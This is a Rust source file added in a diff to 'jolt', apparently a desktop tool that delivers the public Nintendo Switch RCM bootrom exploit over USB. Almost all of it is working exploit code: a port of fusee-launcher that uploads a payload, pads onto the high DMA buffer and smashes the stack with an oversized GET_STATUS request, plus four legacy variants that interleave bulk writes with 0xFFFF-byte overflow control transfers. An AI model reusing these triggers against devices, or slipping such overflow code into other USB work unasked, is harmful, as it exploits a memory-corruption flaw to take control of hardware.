@@ -0,0 +1,651 @@
+// The ways jolt can deliver the exploit.
+//
+// Every injection reads the device ID and builds the RCM command the same way;
+// what differs is how the command gets to the device and how the vulnerability is
+// triggered. That part is a strategy. fusee-launcher's upload-then-smash sequence
+// is the default, and the only one we'd expect to work. The others are earlier
+// experiments (modelled on rajkosto's and crystalRCM's tools) that are kept for
+// the odd host controller that chokes on the default. They're tried in the order
+// the settings (or the CLI) give, falling back to the next when one fails.
+
+use serde::{Deserialize, Serialize};
+use std::time::{Duration, Instant};
+use tracing::{debug, info};
+
+use crate::report::{millis, PhaseTimings, TriggerOutcome};
+use crate::storage;
+use crate::{InjectionProgress, JoltError, ProgressCallback, RCMHax, Transport};
+
+const STRATEGIES_KEY: &str = "strategies";
+
+/// The strategy used when nothing else is asked for.
+pub const DEFAULT_STRATEGY: &str = "fusee-launcher";
+
+/// The endpoint the RCM command is written to.
+const BULK_OUT_ENDPOINT: u8 = 0x01;
+
+/// What a strategy gets to work with.
+pub struct Delivery<'a, T: Transport> {
+    pub switch: &'a mut RCMHax<T>,
+    /// The complete RCM command, as built by `build_payload`.
+    pub stream: &'a [u8],
+    pub timings: &'a mut PhaseTimings,
+    pub progress: ProgressCallback<'a>,
+}
+
+/// How a strategy that worked left the device.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Delivered {
+    pub trigger: TriggerOutcome,
+    /// Whether an extra buffer had to be sent to land on the high DMA buffer.
+    pub padded_to_high_buffer: bool,
+}
+
+/// A way of getting the RCM command onto a device and triggering the
+/// vulnerability.
+pub trait ExploitStrategy<T: Transport> {
+    /// A stable name, used in settings, on the command line and in reports.
+    fn id(&self) -> &'static str;
+
+    /// A name for people.
+    fn name(&self) -> &'static str;
+
+    fn description(&self) -> &'static str;
+
+    fn deliver(&self, delivery: Delivery<'_, T>) -> Result<Delivered, JoltError>;
+}
+
+/// What the frontend shows about a strategy.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
+pub struct StrategyInfo {
+    pub id: String,
+    pub name: String,
+    pub description: String,
+    pub default: bool,
+}
+
+/// The faithful port of fusee-launcher: upload the command, pad onto the high DMA
+/// buffer, then smash the stack with an oversized GET_STATUS.
+pub struct FuseeLauncher;
+
+impl<T: Transport> ExploitStrategy<T> for FuseeLauncher {
+    fn id(&self) -> &'static str {
+        DEFAULT_STRATEGY
+    }
+
+    fn name(&self) -> &'static str {
+        "fusee-launcher"
+    }
+
+    fn description(&self) -> &'static str {
+        "Uploads the payload, switches to the high DMA buffer and triggers the vulnerability, exactly as fusee-launcher does."
+    }
+
+    fn deliver(&self, delivery: Delivery<'_, T>) -> Result<Delivered, JoltError> {
+        let Delivery {
+            switch,
+            stream,
+            timings,
+            progress,
+        } = delivery;
+
+        // Send the constructed payload, which contains the command, the stack smashing
+        // values, the Intermezzo relocation stub, and the final payload.
+        debug!(bytes = stream.len(), "Uploading payload");
+        let phase = Instant::now();
+        switch
+            .write(stream, progress)
+            .map_err(JoltError::UploadFailed)?;
+        timings.upload_ms = millis(phase.elapsed());
+
+        // The RCM backend alternates between two different DMA buffers. Ensure we're
+        // about to DMA into the higher one, so we have less to copy during our attack.
+        progress(InjectionProgress::SwitchingToHighBuffer);
+        let phase = Instant::now();
+        let padded_to_high_buffer = switch
+            .switch_to_highbuf()
+            .map_err(JoltError::HighBufferFailed)?;
+        timings.switch_to_highbuf_ms = millis(phase.elapsed());
+
+        // Smash the device's stack, triggering the vulnerability.
+        debug!("Smashing the stack");
+        progress(InjectionProgress::Triggering);
+        let phase = Instant::now();
+        let trigger = match switch.trigger_controlled_memcpy(None) {
+            Ok(TriggerOutcome::TimedOut) => {
+                // Timeout during trigger = SUCCESS! The device crashed as expected
+                info!("Exploit completed (the device timed out as expected)");
+                TriggerOutcome::TimedOut
+            }
+            Ok(outcome) => {
+                info!(?outcome, "Exploit completed");
+                outcome
+            }
+            // Other errors are actual failures
+            Err(e) => return Err(e),
+        };
+        timings.trigger_ms = millis(phase.elapsed());
+
+        Ok(Delivered {
+            trigger,
+            padded_to_high_buffer,
+        })
+    }
+}
+
+/// One of the older approaches, which work the transport directly and judge
+/// success by whether the device stops answering.
+pub struct LegacyStrategy {
+    id: &'static str,
+    name: &'static str,
+    description: &'static str,
+    run: fn(&dyn Transport, u8, &[u8]) -> Result<String, String>,
+}
+
+impl LegacyStrategy {
+    pub fn classic_bulk_interrupt() -> Self {
+        Self {
+            id: "classic-bulk-interrupt",
+            name: "Classic bulk interrupt",
+            description: "Interrupts a bulk transfer with the overflowing control request, as rajkosto's launcher did.",
+            run: try_classic_bulk_interrupt,
+        }
+    }
+
+    pub fn primed_device() -> Self {
+        Self {
+            id: "primed-device",
+            name: "Primed device",
+            description: "Primes the device with control requests, then interleaves them with the upload, as crystalRCM did.",
+            run: try_primed_device_exploit,
+        }
+    }
+
+    pub fn aggressive_timing() -> Self {
+        Self {
+            id: "aggressive-timing",
+            name: "Aggressive timing",
+            description: "Sends the payload in small chunks with very short timeouts, overflowing before each one.",
+            run: try_aggressive_timing_exploit,
+        }
+    }
+
+    pub fn device_reset() -> Self {
+        Self {
+            id: "device-reset",
+            name: "Device reset",
+            description: "Resets the device and clears the endpoint halt, then sends a minimal chunk and overflows.",
+            run: try_device_reset_exploit,
+        }
+    }
+}
+
+impl<T: Transport> ExploitStrategy<T> for LegacyStrategy {
+    fn id(&self) -> &'static str {
+        self.id
+    }
+
+    fn name(&self) -> &'static str {
+        self.name
+    }
+
+    fn description(&self) -> &'static str {
+        self.description
+    }
+
+    fn deliver(&self, delivery: Delivery<'_, T>) -> Result<Delivered, JoltError> {
+        let Delivery {
+            switch,
+            stream,
+            timings,
+            progress,
+        } = delivery;
+
+        progress(InjectionProgress::Triggering);
+        let phase = Instant::now();
+        let result = (self.run)(&switch.device, BULK_OUT_ENDPOINT, stream);
+        timings.trigger_ms = millis(phase.elapsed());
+
+        match result {
+            Ok(message) => {
+                info!(strategy = self.id, "{}", message);
+                Ok(Delivered {
+                    trigger: TriggerOutcome::Unresponsive,
+                    padded_to_high_buffer: false,
+                })
+            }
+            Err(reason) => Err(JoltError::StrategyFailed {
+                strategy: self.id.to_string(),
+                reason,
+            }),
+        }
+    }
+}
+
+/// The strategies an injection can pick from.
+pub struct StrategyRegistry<T: Transport = rusb::DeviceHandle<rusb::GlobalContext>> {
+    strategies: Vec<Box<dyn ExploitStrategy<T>>>,
+}
+
+impl<T: Transport> StrategyRegistry<T> {
+    /// An empty registry.
+    pub fn new() -> Self {
+        Self {
+            strategies: Vec::new(),
+        }
+    }
+
+    /// fusee-launcher, followed by the legacy strategies.
+    pub fn builtin() -> Self {
+        let mut registry = Self::new();
+        registry.register(FuseeLauncher);
+        registry.register(LegacyStrategy::classic_bulk_interrupt());
+        registry.register(LegacyStrategy::primed_device());
+        registry.register(LegacyStrategy::aggressive_timing());
+        registry.register(LegacyStrategy::device_reset());
+        registry
+    }
+
+    /// Adds a strategy, replacing any with the same ID.
+    pub fn register(&mut self, strategy: impl ExploitStrategy<T> + 'static) {
+        self.strategies.retain(|known| known.id() != strategy.id());
+        self.strategies.push(Box::new(strategy));
+    }
+
+    pub fn get(&self, id: &str) -> Option<&dyn ExploitStrategy<T>> {
+        self.strategies
+            .iter()
+            .find(|strategy| strategy.id() == id)
+            .map(|strategy| strategy.as_ref())
+    }
+
+    pub fn infos(&self) -> Vec<StrategyInfo> {
+        self.strategies
+            .iter()
+            .map(|strategy| StrategyInfo {
+                id: strategy.id().to_string(),
+                name: strategy.name().to_string(),
+                description: strategy.description().to_string(),
+                default: strategy.id() == DEFAULT_STRATEGY,
+            })
+            .collect()
+    }
+
+    /// The strategies to try, in order. An empty order means the default.
+    pub fn resolve(&self, order: &[String]) -> Result<Vec<&dyn ExploitStrategy<T>>, JoltError> {
+        if order.is_empty() {
+            return self
+                .get(DEFAULT_STRATEGY)
+                .map(|strategy| vec![strategy])
+                .ok_or_else(|| JoltError::UnknownStrategy(DEFAULT_STRATEGY.to_string()));
+        }
+
+        let mut strategies: Vec<&dyn ExploitStrategy<T>> = Vec::new();
+        for id in order {
+            let strategy = self
+                .get(id)
+                .ok_or_else(|| JoltError::UnknownStrategy(id.clone()))?;
+            if !strategies.iter().any(|known| known.id() == strategy.id()) {
+                strategies.push(strategy);
+            }
+        }
+        Ok(strategies)
+    }
+}
+
+impl<T: Transport> Default for StrategyRegistry<T> {
+    fn default() -> Self {
+        Self::builtin()
+    }
+}
+
+/// Which strategies to try, and in what order.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct StrategySettings {
+    pub order: Vec<String>,
+}
+
+impl Default for StrategySettings {
+    fn default() -> Self {
+        Self {
+            order: vec![DEFAULT_STRATEGY.to_string()],
+        }
+    }
+}
+
+pub fn load_settings(app: &tauri::AppHandle) -> StrategySettings {
+    storage::load_setting(app, STRATEGIES_KEY).unwrap_or_default()
+}
+
+#[tauri::command]
+pub fn list_strategies() -> Vec<StrategyInfo> {
+    <StrategyRegistry>::builtin().infos()
+}
+
+#[tauri::command]
+pub fn get_strategy_settings(app: tauri::AppHandle) -> StrategySettings {
+    load_settings(&app)
+}
+
+/// Saves a new order, as long as every strategy in it exists.
+#[tauri::command]
+pub fn set_strategy_settings(
+    app: tauri::AppHandle,
+    settings: StrategySettings,
+) -> Result<(), String> {
+    <StrategyRegistry>::builtin()
+        .resolve(&settings.order)
+        .map_err(|e| e.to_string())?;
+    storage::save_setting(&app, STRATEGIES_KEY, &settings)
+}
+
+fn try_classic_bulk_interrupt(
+    handle: &dyn Transport,
+    bulk_out_ep: u8,
+    payload_data: &[u8],
+) -> Result<String, String> {
+    debug!("Attempting classic bulk interrupt method");
+
+    // Send initial bulk data with very short timeout
+    let initial_chunk = &payload_data[0..std::cmp::min(0x1000, payload_data.len())];
+
+    match handle.write_bulk(bulk_out_ep, initial_chunk, Duration::from_millis(50)) {
+        Ok(_) => {
+            // Bulk transfer succeeded - device is accepting data normally
+            // This means exploit didn't trigger, try a different approach
+            Err("Device accepted bulk data normally - exploit not triggered".to_string())
+        }
+        Err(e) => {
+            if e == rusb::Error::Timeout {
+                debug!("Bulk transfer timed out as expected; sending overflow control transfer");
+
+                // Send the overflow control transfer immediately after timeout
+                let mut overflow_buffer = vec![0u8; 0xFFFF];
+                match handle.read_control(
+                    0x82,               // bmRequestType: IN | STANDARD | ENDPOINT
+                    0x00,               // bRequest: GET_STATUS
+                    0x0000,             // wValue
+                    bulk_out_ep as u16, // wIndex: target bulk endpoint
+                    &mut overflow_buffer,
+                    Duration::from_millis(100),
+                ) {
+                    Ok(_) => debug!("Control transfer succeeded"),
+                    Err(e) => debug!(error = %e, "Control transfer failed"),
+                }
+
+                // Check if device is still responsive
+                std::thread::sleep(Duration::from_millis(50));
+                match handle.write_bulk(
+                    bulk_out_ep,
+                    &payload_data[0..0x100],
+                    Duration::from_millis(50),
+                ) {
+                    Ok(_) => Err("Device still responsive - exploit failed".to_string()),
+                    Err(_) => Ok(
+                        "✓ Classic bulk interrupt exploit succeeded! Device crashed/rebooted."
+                            .to_string(),
+                    ),
+                }
+            } else {
+                Err(format!("Unexpected bulk transfer error: {}", e))
+            }
+        }
+    }
+}
+
+fn try_primed_device_exploit(
+    handle: &dyn Transport,
+    bulk_out_ep: u8,
+    payload_data: &[u8],
+) -> Result<String, String> {
+    debug!("Attempting primed device method");
+
+    // Send multiple control transfers to "prime" the device (crystalRCM approach)
+    let mut overflow_buffer = vec![0u8; 0xFFFF];
+
+    for i in 1..=5 {
+        match handle.read_control(
+            0x80,   // Device-directed
+            0x00,   // GET_STATUS
+            0x0000, // wValue
+            0x00,   // wIndex (device)
+            &mut overflow_buffer,
+            Duration::from_millis(200),
+        ) {
+            Ok(_) => debug!(attempt = i, "Prime control transfer succeeded"),
+            Err(e) => debug!(attempt = i, error = %e, "Prime control transfer failed"),
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    }
+
+    // Now try bulk transfer
+    match handle.write_bulk(
+        bulk_out_ep,
+        &payload_data[0..0x1000],
+        Duration::from_millis(1000),
+    ) {
+        Ok(written) => {
+            debug!(bytes = written, "Bulk transfer succeeded after priming");
+
+            // Device accepted data - try interleaving control transfers
+            let mut bytes_sent = written;
+            let mut alternate = false;
+
+            while bytes_sent < payload_data.len() {
+                let remaining = payload_data.len() - bytes_sent;
+                let chunk_size = std::cmp::min(remaining, 0x1000);
+                let chunk = &payload_data[bytes_sent..bytes_sent + chunk_size];
+
+                if alternate {
+                    // Send control transfer
+                    let mut overflow_buffer = vec![0u8; 0xFFFF];
+                    let _ = handle.read_control(
+                        0x82,
+                        0x00,
+                        0x0000,
+                        bulk_out_ep as u16,
+                        &mut overflow_buffer,
+                        Duration::from_millis(50),
+                    );
+                }
+
+                alternate = !alternate;
+
+                match handle.write_bulk(bulk_out_ep, chunk, Duration::from_millis(200)) {
+                    Ok(written) => {
+                        bytes_sent += written;
+                        debug!(bytes = written, total = bytes_sent, "Sent a chunk");
+                    }
+                    Err(e) => {
+                        if e == rusb::Error::Timeout {
+                            // Check if device crashed
+                            std::thread::sleep(Duration::from_millis(20));
+                            match handle.write_bulk(
+                                bulk_out_ep,
+                                &payload_data[0..0x100],
+                                Duration::from_millis(20),
+                            ) {
+                                Ok(_) => continue, // Device still responsive, keep trying
+                                Err(_) => {
+                                    return Ok("✓ Primed device exploit succeeded! Device became unresponsive.".to_string())
+                                }
+                            }
+                        }
+                        return Err(format!("Bulk transfer failed: {}", e));
+                    }
+                }
+            }
+
+            Err("Completed all data transfer without triggering exploit".to_string())
+        }
+        Err(e) => {
+            if e == rusb::Error::Timeout {
+                // Device timed out immediately - try control transfer
+                let mut overflow_buffer = vec![0u8; 0xFFFF];
+                let _ = handle.read_control(
+                    0x82,
+                    0x00,
+                    0x0000,
+                    bulk_out_ep as u16,
+                    &mut overflow_buffer,
+                    Duration::from_millis(100),
+                );
+
+                // Check responsiveness
+                std::thread::sleep(Duration::from_millis(50));
+                match handle.write_bulk(
+                    bulk_out_ep,
+                    &payload_data[0..0x100],
+                    Duration::from_millis(50),
+                ) {
+                    Ok(_) => Err("Device still responsive after primed timeout".to_string()),
+                    Err(_) => Ok(
+                        "✓ Primed device exploit succeeded! Device became unresponsive."
+                            .to_string(),
+                    ),
+                }
+            } else {
+                Err(format!("Bulk transfer failed: {}", e))
+            }
+        }
+    }
+}
+
+fn try_aggressive_timing_exploit(
+    handle: &dyn Transport,
+    bulk_out_ep: u8,
+    payload_data: &[u8],
+) -> Result<String, String> {
+    debug!("Attempting aggressive timing method");
+
+    // Use extremely short timeouts and rapid control transfers
+    let mut overflow_buffer = vec![0u8; 0xFFFF];
+
+    for chunk_start in (0..payload_data.len()).step_by(0x800) {
+        let chunk_end = std::cmp::min(chunk_start + 0x800, payload_data.len());
+        let chunk = &payload_data[chunk_start..chunk_end];
+
+        // Send control transfer, then immediately try bulk transfer
+        let _ = handle.read_control(
+            0x82,
+            0x00,
+            0x0000,
+            bulk_out_ep as u16,
+            &mut overflow_buffer,
+            Duration::from_millis(10),
+        );
+
+        match handle.write_bulk(bulk_out_ep, chunk, Duration::from_millis(10)) {
+            Ok(written) => {
+                debug!(bytes = written, "Aggressive chunk sent");
+            }
+            Err(e) => {
+                if e == rusb::Error::Timeout {
+                    // Check if device crashed
+                    std::thread::sleep(Duration::from_micros(500));
+                    match handle.write_bulk(
+                        bulk_out_ep,
+                        &payload_data[0..0x100],
+                        Duration::from_micros(500),
+                    ) {
+                        Ok(_) => continue, // Device still responsive, keep trying
+                        Err(_) => return Ok(
+                            "✓ Aggressive timing exploit succeeded! Device became unresponsive."
+                                .to_string(),
+                        ),
+                    }
+                }
+                return Err(format!("Aggressive transfer failed: {}", e));
+            }
+        }
+
+        std::thread::sleep(Duration::from_micros(500));
+    }
+
+    Err("Aggressive timing completed without triggering exploit".to_string())
+}
+
+fn try_device_reset_exploit(
+    handle: &dyn Transport,
+    bulk_out_ep: u8,
+    payload_data: &[u8],
+) -> Result<String, String> {
+    debug!("Attempting device reset method");
+
+    // Try to reset the device (if supported)
+    if let Err(e) = handle.reset() {
+        debug!(error = %e, "Device reset not supported or failed");
+    } else {
+        debug!("Device reset attempted");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+
+    // Try clearing halt condition on endpoints
+    let _ = handle.clear_halt(bulk_out_ep);
+    debug!("Cleared halt condition on bulk endpoint");
+
+    // Try a very minimal payload approach - just send a small chunk and overflow
+    let minimal_chunk = if payload_data.len() >= 0x1000 {
+        &payload_data[0..0x1000]
+    } else {
+        payload_data
+    };
+
+    // Send minimal data with very short timeout
+    match handle.write_bulk(bulk_out_ep, minimal_chunk, Duration::from_millis(10)) {
+        Ok(_) => {
+            debug!("Minimal bulk transfer succeeded after reset; device is responsive");
+            // If it succeeds, try overflow immediately
+            let mut overflow_buffer = vec![0u8; 0xFFFF];
+            let _ = handle.read_control(
+                0x82,
+                0x00,
+                0x0000,
+                bulk_out_ep as u16,
+                &mut overflow_buffer,
+                Duration::from_millis(50),
+            );
+
+            // Check if device crashed
+            std::thread::sleep(Duration::from_millis(20));
+            match handle.write_bulk(
+                bulk_out_ep,
+                &payload_data[0..0x100],
+                Duration::from_millis(20),
+            ) {
+                Ok(_) => Err("Device still responsive after reset + overflow attempt".to_string()),
+                Err(_) => Ok("✓ Device reset + minimal payload exploit succeeded!".to_string()),
+            }
+        }
+        Err(e) => {
+            if e == rusb::Error::Timeout {
+                debug!("Minimal bulk transfer timed out after reset; trying overflow");
+
+                // Send overflow control transfer
+                let mut overflow_buffer = vec![0u8; 0xFFFF];
+                let _ = handle.read_control(
+                    0x82,
+                    0x00,
+                    0x0000,
+                    bulk_out_ep as u16,
+                    &mut overflow_buffer,
+                    Duration::from_millis(100),
+                );
+
+                // Check if device is still responsive
+                std::thread::sleep(Duration::from_millis(50));
+                match handle.write_bulk(
+                    bulk_out_ep,
+                    &payload_data[0..0x100],
+                    Duration::from_millis(50),
+                ) {
+                    Ok(_) => Err("Device still responsive after reset timeout".to_string()),
+                    Err(_) => Ok("✓ Device reset + timeout exploit succeeded!".to_string()),
+                }
+            } else {
+                Err(format!("Reset method failed: {}", e))
+            }
+        }
+    }
+}